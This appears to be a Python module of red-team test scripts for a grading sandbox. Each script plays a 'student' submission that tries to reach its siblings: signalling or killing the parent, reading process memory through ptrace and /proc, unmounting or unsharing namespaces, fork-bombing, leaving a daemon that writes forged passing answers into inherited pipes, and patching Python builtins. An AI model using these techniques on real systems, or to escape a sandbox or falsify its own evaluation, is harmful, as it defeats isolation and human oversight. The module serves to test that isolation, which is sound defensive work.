"""Reaching the other students of a run: the process that all are forked from, those who run at the same time, and who comes next.

Each looks for what the others of this kind leave, so that they are attacks on one another too.
"""

from __future__ import annotations

from labkit.grading.redteam.attacks import FULL, OTHERS, Attack, answers, script

__all__ = ["ATTACKS"]

_TOP = """
import ctypes, os, signal, sys, time
MARK = @mark@
libc = ctypes.CDLL(None, use_errno=True)
IS_X86 = os.uname().machine == 'x86_64'
def reached(what):
    raise RuntimeError("".join(MARK) + " " + str(what)[:200])
def call(x86, arm, *arguments):
    return libc.syscall(ctypes.c_long(x86 if IS_X86 else arm), *map(ctypes.c_long, arguments))
def others():
    mine = {os.getpid(), os.getppid()}
    return [pid for pid in range(1, 400) if pid not in mine]
PLACES = ['.', '/', '/tmp', '/dev/shm', '/dev/mqueue', '/run', '/var/tmp', os.environ.get('HOME', '/')]
"""


def _sibling(name: str, tries: str, body: str, least: int = -1) -> Attack:
    inner = "".join(f"    {line}\n" for line in body.split("\n"))
    code = f"{answers('away')}{_TOP}ME = {name!r}\ndef away(x):\n{inner}    return x\n"
    return script(f"siblings-{name}", "siblings", tries, code, OTHERS, least=least)


_FILES = """\
for place in PLACES:
    try:
        names = os.listdir(place)
    except OSError:
        names = []
    for name in names:
        if name.startswith(@planted@) and not name.endswith(ME):
            reached(place + ' ' + name)
    try:
        with open(place + '/' + @planted@ + ME, 'w') as file:
            file.write('for the next one')
        os.chmod(place + '/' + @planted@ + ME, 0o777)
    except OSError:
        pass"""

_NAMED = """\
import mmap
for kind in ('', 'sem.'):
    for one in ('a', 'b'):
        path = '/dev/shm/' + kind + @planted@ + one
        if one != ME[-1] and os.path.exists(path):
            reached(path)
    try:
        with open('/dev/shm/' + kind + @planted@ + ME[-1], 'w+b') as file:
            file.write(bytes(64))
            file.flush()
            mmap.mmap(file.fileno(), 64)[:5] = b'hello'
    except OSError:
        pass
for one in ('a', 'b'):
    libc.sem_open.restype = ctypes.c_void_p
    if one != ME[-1] and libc.sem_open(('/' + @planted@ + one).encode(), 0):
        reached('a semaphore')
libc.sem_open(('/' + @planted@ + ME[-1]).encode(), os.O_CREAT, 0o666, 1)"""

_SYSTEM_V = """\
made, key = 0o1000 | 0o2000 | 0o666, 0x1ab + (sum(@planted@.encode()) << 12)
for name, size in (('shmget', (4096,)), ('semget', (1,)), ('msgget', ())):
    if getattr(libc, name)(key, *size, made) < 0 and ctypes.get_errno() == 17:
        reached(name + ': it is there already')"""

_CALLS = """\
import socket
try:
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(chr(0) + @planted@)
        one.listen()
        reached('a name that siblings can call')
except OSError as error:
    if error.errno == 98:
        reached('a sibling has the name')"""

ATTACKS = (
    _sibling(
        "signal",
        "signals all processes by their numbers, the parent of all among them, and stops its own parent",
        """\
for pid in others():
    try:
        os.kill(pid, signal.SIGCONT)
    except OSError:
        continue
    if pid != 1:
        reached(['it could signal', pid])
os.kill(os.getppid(), signal.SIGTERM)""",
        least=0,
    ),
    _sibling(
        "signal-groups",
        "signals its group, its session and everybody",
        """\
signal.signal(signal.SIGUSR1, signal.SIG_IGN)
for pid in (0, -1):
    try:
        os.kill(pid, signal.SIGUSR1)
    except OSError:
        pass
for group in others():
    try:
        os.killpg(group, signal.SIGCONT)
    except OSError:
        continue
    if group != 1:
        reached(['it could signal the group', group])""",
        least=0,
    ),
    _sibling(
        "memory",
        "reads and debugs the parent of all, by its number and in /proc",
        """\
room = (ctypes.c_char * 64)()
address = id(call)
class Vector(ctypes.Structure):
    _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
mine, theirs = Vector(ctypes.addressof(room), 64), Vector(address, 64)
for pid in [os.getppid(), *others()]:
    at = ctypes.addressof(mine), ctypes.addressof(theirs)
    if call(310, 270, pid, at[0], 1, at[1], 1, 0) > 0 or call(311, 271, pid, at[0], 1, at[1], 1, 0) > 0:
        reached(['the memory of', pid])
    if call(101, 117, 16, pid, 0, 0) == 0 or call(101, 117, 0x4206, pid, 0, 0) == 0:
        reached(['debugs', pid])
    if call(434, 434, pid, 0) >= 0:
        reached(['a descriptor of process', pid])
    for name in ('mem', 'maps', 'environ', 'root', 'cwd/.', 'fd/3'):
        try:
            reached(open(f'/proc/{pid}/{name}', 'rb').read(64))
        except OSError:
            pass""",
    ),
    _sibling("files-a", "leaves files and looks for those of others", _FILES),
    _sibling("files-b", "the same, so that one of the two comes later", _FILES),
    _sibling("shared-memory-a", "leaves shared memory and semaphores by name, and looks for others'", _NAMED),
    _sibling("shared-memory-b", "the same, so that one of the two comes later", _NAMED),
    _sibling("system-v-a", "leaves shared memory, semaphores and messages by number", _SYSTEM_V),
    _sibling("system-v-b", "the same number", _SYSTEM_V),
    _sibling("calls-a", "waits for calls of others, under a name of no file", _CALLS),
    _sibling("calls-b", "the same name", _CALLS),
    _sibling(
        "descriptors",
        "writes answers and requests into whatever it has inherited",
        """\
import json, stat, struct
text = json.dumps({'outcome': 'value', 'value': 1, 'setup': {}, 'nonce': '0' * 16}).encode()
for fd in range(3, 4096):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISSOCK(mode):
        reached('a socket')
    try:
        os.set_blocking(fd, False)
        os.write(fd, struct.pack('>I', len(text)) + text)
        os.write(fd, struct.pack('>i?', -1, False))
    except OSError:
        pass""",
        least=0,
    ),
    _sibling(
        "streams",
        "changes the standard streams for others",
        """\
import fcntl
flags = {}
for fd in (0, 1, 2):
    try:
        flags[fd] = fcntl.fcntl(fd, fcntl.F_GETFL)
    except OSError:
        pass
if any(flag & os.O_APPEND for flag in flags.values()) and not hasattr(away, 'was_here'):
    reached('the streams of another')
for fd in flags:
    fcntl.fcntl(fd, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK)
away.was_here = True""",
    ),
    _sibling(
        "terminal",
        "opens a terminal and types into it",
        """\
import fcntl
for path in ('/dev/ptmx', '/dev/pts/ptmx', '/dev/pts/0', '/dev/tty', '/dev/console'):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError:
        continue
    try:
        fcntl.ioctl(fd, 0x5412, b'x')
    except OSError:
        pass
    reached(path)""",
    ),
    _sibling(
        "uncover",
        "takes away what covers the folders of others",
        """\
for path in (b'/tmp', b'/dev/shm', b'/dev/pts', b'/proc', b'/'):
    for flags in (0, 2, 8):
        if libc.umount2(path, flags) == 0:
            reached(path)
    if libc.mount(b'tmpfs', path, b'tmpfs', ctypes.c_ulong(0), None) == 0:
        reached(path)
for flags in (0x10000000, 0x20000, 0x20000000, 0x08000000, 0x40000000):
    if libc.unshare(flags) == 0:
        reached(hex(flags))
for fd in range(64):
    if libc.setns(fd, 0) == 0:
        reached(fd)""",
    ),
    _sibling(
        "exhaust",
        "all processes and all descriptors, kept for long",
        """\
for _ in range(300):
    try:
        if os.fork() == 0:
            try:
                kept = []
                while True:
                    kept.append(os.open('/dev/null', os.O_RDONLY))
            except OSError:
                time.sleep(600)
            os._exit(0)
    except OSError:
        break""",
        least=0,
    ),
    _sibling(
        "stays",
        "stays after the end, deaf, with its pipes open, and answers for the next",
        """\
import json, struct
text = json.dumps({'outcome': 'value', 'value': 1}).encode()
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    if os.fork() == 0:
        while True:
            time.sleep(0.05)
            for fd in range(3, 64):
                try:
                    os.set_blocking(fd, False)
                    os.write(fd, struct.pack('>I', len(text)) + text)
                except OSError:
                    pass
    os._exit(0)
time.sleep(0.1)""",
        least=0,
    ),
    _sibling(
        "adopted",
        "becomes a child of the parent of all",
        """\
if call(56, 220, 0x8000 | 17, 0, 0, 0, 0) == 0:
    call(56, 220, 0x8000 | 17, 0, 0, 0, 0)
    time.sleep(600)
    os._exit(0)""",
        least=0,
    ),
    _sibling(
        "libraries",
        "spoils numbers, NumPy and Python in memory for who comes next",
        """\
import builtins
address = id(12) + 24
ctypes.c_uint32.from_address(address).value = 13
np.floor = np.sign = np.mean = lambda *a: 1
builtins.len = lambda a: 1""",
    ),
    _sibling(
        "slow-down",
        "makes everybody of its user slow",
        """\
for kind in (0, 1, 2):
    for who in (0, os.getuid()):
        try:
            os.setpriority(kind, who, 19)
        except OSError:
            pass
for pid in others():
    try:
        os.sched_setaffinity(pid, {0})
    except OSError:
        continue
    reached(['the processors of', pid])""",
    ),
    script(
        "siblings-honest",
        "siblings",
        "nothing: honest work in the middle of them",
        f"# {'-' * 20}\n{answers()}",
        FULL,
    ),
)
